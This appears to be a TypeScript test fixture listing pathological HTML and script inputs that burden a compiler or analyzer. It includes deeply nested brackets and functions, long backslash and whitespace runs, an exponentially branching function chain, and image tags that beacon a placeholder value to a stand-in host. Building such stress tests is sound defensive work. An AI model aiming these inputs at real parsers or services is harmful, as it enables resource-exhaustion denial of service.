/** Pixels that cost a compiler more than their length lets on. A viewer may have any pixel checked. */

const X = '{{VALUE}}';

export const COSTLY_PIXELS: Record<string, string> = {
  'nested functions, 20 KB': script(`${'(function(){'.repeat(1_400)}var a="${X}";${'})()'.repeat(1_400)}`),
  'nested brackets, 60 KB': script(`var a=${'['.repeat(30_000)}"${X}"${']'.repeat(30_000)}`),
  'nested template literals': script(`var a=${'`${'.repeat(8_000)}1${'}`'.repeat(8_000)};var b="${X}"`),
  'backslashes, 30 KB': script(`var a="${'\\'.repeat(30_000)}${X}"`),
  'backslashes in a string that ends, 60 KB': script(`var a="${'\\\\'.repeat(30_000)}";var b="${X}"`),
  'a reversed chain of 2,000 variables': script(
    `${Array.from({ length: 2_000 }, (_, index) => `var v${2_000 - index}=v${1_999 - index};`).join('')}var v0="${X}";`,
  ),
  'a chain of functions that call each other': script(
    `${Array.from({ length: 1_500 }, (_, index) => `function f${index}(a){return f${index + 1}(a)+f${index + 1}(a)}`).join('')}` +
      `function f1500(a){return a} f0("${X}");`,
  ),
  'a script type of spaces, 60 KB': `<script type="${' '.repeat(60_000)}x">var a="${X}"</script>`,
  'an attribute of spaces, 60 KB': `<img alt="${' '.repeat(60_000)}" src="https://h.example/?a=${X}">`,
  'nested elements, 60 KB': `${'<b>'.repeat(10_000)}${X}${'</b>'.repeat(6_000)}`,
  'slots without end': `<img src="https://h.example/?${Array.from({ length: 4_000 }, (_, index) => `a${index}=${X}`).join('&')}">`,
  'many small scripts': `${'<script>var a=1</script>'.repeat(2_500)}<img src="https://h.example/?a=${X}">`,
  'a sum of 8,000 strings': script(`var a=${Array.from({ length: 8_000 }, () => '"b"').join('+')}+"${X}"`),
};

function script(code: string): string {
  return `<script>${code}</script>`;
}
